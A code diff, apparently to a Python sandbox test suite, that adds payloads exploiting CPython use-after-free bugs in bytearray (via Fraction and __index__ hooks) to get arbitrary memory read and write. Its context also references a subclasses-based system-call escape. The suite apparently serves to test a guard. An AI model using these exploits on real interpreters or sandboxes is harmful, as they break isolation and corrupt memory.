@@ -331,6 +331,60 @@ def syscall_payload(name, call, args, off=(SECCOMP,), params="", **kw):
 WRAP_CLOSE = ("[c for c in ().__class__.__base__.__subclasses__()"
               " if c.__name__ == '_wrap_close'][0]")
 
+# review 73: an __index__ that runs the code (numbers.Integral's, through
+# Fraction's __int__ and a numerator property): it resizes STATE["ba"]
+FRACTION_INDEX = textwrap.dedent("""
+    import fractions
+    import numbers
+    import struct
+    STATE = {"armed": False, "ba": None, "victims": [], "grow": 0}
+    class N:
+        def __init__(self, v):
+            self.v = v
+        def __lt__(self, o):
+            return self.v < o
+        def __floordiv__(self, o):
+            if STATE["armed"]:
+                STATE["armed"] = False
+                if STATE["grow"]:
+                    STATE["ba"].extend(b"q" * STATE["grow"])
+                else:
+                    STATE["ba"].clear()
+                for _ in range(3):
+                    STATE["victims"].append(bytearray(b"v" * 8))
+            return self.v // o
+    class Src(fractions.Fraction):
+        @property
+        def numerator(self):
+            return N(self.want)
+        @property
+        def denominator(self):
+            return 1
+    class Index(fractions.Fraction, numbers.Integral):
+        def __lshift__(a, b): return 0
+        def __rlshift__(a, b): return 0
+        def __rshift__(a, b): return 0
+        def __rrshift__(a, b): return 0
+        def __and__(a, b): return 0
+        def __rand__(a, b): return 0
+        def __xor__(a, b): return 0
+        def __rxor__(a, b): return 0
+        def __or__(a, b): return 0
+        def __ror__(a, b): return 0
+        def __invert__(a): return 0
+    def index_running_code(v):
+        s = Src(1)
+        s.want = v
+        return Index(s)
+    """)
+
+
+def fraction_index_payload(name, main):
+    """FRACTION_INDEX and main(): in a call the classes are refused."""
+    return Payload(name, FRACTION_INDEX + textwrap.dedent(main), on={GUARD},
+                   off={OK, CRASH, EXCEPTION})
+
+
 PAYLOADS = [
     # -- object graph, frames, format strings, names ------------------------
     Payload("subclasses-wrap-close-system", """
@@ -6129,6 +6183,70 @@ PAYLOADS = [
                 return "read memory: %r" % (shown,)
             raise LookupError("no byte read: %r" % (shown,))
         """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
+    # review 73: a class of the code's inherited conversions written in
+    # Python (numbers.Integral's __index__ is int(self), Fraction's __int__
+    # computes with a numerator a property of the code's gave), so the
+    # code ran inside bytearray's item assignment, which then wrote through
+    # its freed buffer (gh-91153): a bytearray over all memory
+    fraction_index_payload("fraction-index-writes-through-freed-bytearray", """
+        def main():
+            big = 0x7ffffffffffffff0
+            payload = bytearray(struct.pack("<qqqq", big, big + 1, 0, 0)[::-1])
+            ba = bytearray(b"a" * 56)
+            STATE["ba"] = ba
+            STATE["grow"] = 200000
+            start = index_running_code(47)
+            STATE["armed"] = True
+            try:
+                ba[start:15:-1] = payload
+            except Exception:
+                pass
+            if any(len(v) == big for v in STATE["victims"]):
+                return "a bytearray over all memory"
+            raise LookupError("no bytearray over memory: %r" % ([len(v) for v in STATE["victims"]],))
+        """),
+    # ... and bytearray's searches read the freed buffer (gh-142558..60)
+    fraction_index_payload("fraction-index-count-reads-freed-bytearray", """
+        def main():
+            ba = bytearray(b"a" * 4000)
+            STATE["ba"] = ba
+            STATE["grow"] = 0
+            i = index_running_code(97)
+            STATE["armed"] = True
+            found = ba.count(i)
+            if found:
+                return "counted %d bytes of a freed buffer" % found
+            raise LookupError("the emptied bytearray counted nothing")
+        """),
+    # ... a plain Fraction kept the numerator of a Rational the code
+    # registered (or a float subclass's as_integer_ratio()), and its
+    # __int__ ran the code's // ("%d" % f, math.floor, any int conversion)
+    Payload("fraction-of-registered-rational-runs-code", """
+        import fractions
+        import numbers
+        CALLS = []
+        class N:
+            def __init__(self, v):
+                self.v = v
+            def __lt__(self, o):
+                return self.v < o
+            def __floordiv__(self, o):
+                CALLS.append("floordiv")
+                return self.v // o
+        class Reg:
+            denominator = 1
+            def __init__(self, v):
+                self.numerator = N(v)
+        class F(float):
+            def as_integer_ratio(self):
+                return (N(3), 1)
+        def main():
+            numbers.Rational.register(Reg)
+            shown = ["%d" % fractions.Fraction(Reg(7)), "%d" % fractions.Fraction(F(1.5))]
+            if CALLS:
+                return "the code ran inside int(): %r %r" % (CALLS, shown)
+            raise LookupError("no call: %r" % shown)
+        """, on={GUARD}, off={OK}),
     Payload("make-dataclass-str-base-own-startswith", """
         import dataclasses
         def main():
